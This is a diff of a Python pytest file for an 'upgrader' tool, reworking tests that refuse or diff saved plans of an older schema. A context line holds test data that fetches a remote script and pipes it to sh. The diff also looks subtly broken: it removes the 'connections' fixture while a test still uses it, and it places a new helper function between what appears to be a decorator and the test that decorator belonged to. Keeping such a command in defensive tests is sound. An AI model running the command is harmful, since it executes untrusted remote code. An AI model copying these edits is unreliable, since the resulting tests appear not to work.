@@ -15,7 +15,7 @@ import hashlib
 import json
 import re
 import shutil
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -24,13 +24,9 @@ import yaml
 from markdown_it import MarkdownIt
 
 from upgrader.cli.main import main
-from upgrader.engine import pool as pool_module
-from upgrader.engine import remote
-from upgrader.errors import RefusedError
 from upgrader.loading.inputs import load_playbook
 from upgrader.loading.pins import controller_files, import_root
 from upgrader.models.plan import Plan
-from upgrader.transport import fabric_adapter
 
 REPO = Path(__file__).resolve().parents[2]
 PLAYBOOK = REPO / "playbooks" / "ordergw-5.2.0.yml"
@@ -39,29 +35,6 @@ MODULE = REPO / "playbooks" / "verify" / "ordergw.py"
 HOSTILE = ["/bin/sh", "-c", "curl -s https://203.0.113.9/x | sh"]
 
 Record = Callable[[str, object], None]
-
-
-class Connected(RefusedError):
-    """Raised where a connection would begin: the check let the plan through."""
-
-
-@pytest.fixture
-def connections(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
-    """Every pool or transport created and every agent start, recorded; none of them connects."""
-    made: list[str] = []
-
-    def transport(self: Any, endpoint: Any, *args: Any, **kwargs: Any) -> None:
-        made.append(f"transport {endpoint.name}")
-        raise Connected(f"reached the transport of {endpoint.name}")
-
-    def pool(self: Any, *args: Any, **kwargs: Any) -> None:
-        made.append("pool")
-        raise Connected("reached the pool")
-
-    monkeypatch.setattr(fabric_adapter.FabricTransport, "__init__", transport)
-    monkeypatch.setattr(pool_module.Pool, "__init__", pool)
-    monkeypatch.setattr(remote, "start", lambda *a, **k: made.append("agent start"))
-    yield made
 
 
 def write_playbook(folder: Path, module: str = "verify/ordergw.py", **changes: Any) -> None:
@@ -176,15 +149,20 @@ def test_an_unchanged_plan_gets_past_the_pins_to_the_hosts(
     "a saved plan written by the previous upgrader (schema 2, no pins)",
     "apply refuses with a clear 'plan again' error before any connection",
 )
+def schema_2(saved: Path) -> str:
+    """``saved`` as the upgrader of schema 2 wrote it: no pins, every step holding its operations."""
+    plan = Plan.from_json(saved.read_text())
+    data = plan.model_dump(mode="json", exclude={"controller_files": True, "hosts": {"__all__": {"undo"}}})
+    return json.dumps({**data, "schema_version": 2}, sort_keys=True, indent=2)
+
+
 def test_an_old_schema_plan_is_refused_clearly(
     saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str], record_property: Record
 ) -> None:
-    data = json.loads(saved.read_text())
-    data["schema_version"] = 2
-    del data["controller_files"]
-    saved.write_text(Plan.model_validate(data).sealed().to_json())
+    saved.write_text(schema_2(saved))
     code, err = apply(capsys)
-    assert code == 1 and "is a schema 2 plan; this upgrader applies schema 3 plans" in err and "plan again" in err
+    assert code == 1 and "is a schema 2 plan; this upgrader applies schema 4 plans" in err, err
+    assert "re-run `upgrader plan`" in err
     assert connections == []
     record_property("observed", f"exit {code}, {len(connections)} connection(s): {err.strip().splitlines()[0][:140]}")
 
@@ -408,13 +386,10 @@ def test_the_module_runs_from_a_private_copy_of_the_pinned_files(in_tmp: Path, m
 
 def test_diff_reads_a_plan_of_the_previous_schema(saved: Path, capsys: pytest.CaptureFixture[str]) -> None:
     """`diff` against a base branch's older plan still works, and says what the new schema adds."""
-    old = json.loads(saved.read_text())
-    old["schema_version"] = 2
-    del old["controller_files"]
     before = saved.parent / "before.json"
-    before.write_text(Plan.model_validate(old).sealed().to_json())
+    before.write_text(schema_2(saved))
     text = diff_lines(before, saved, capsys)
-    assert "plan schema 2 → 3" in text
+    assert "plan schema 2 → 4" in text
     assert "controller file verify/ordergw.py: now pinned (sha256:" in text
 
 
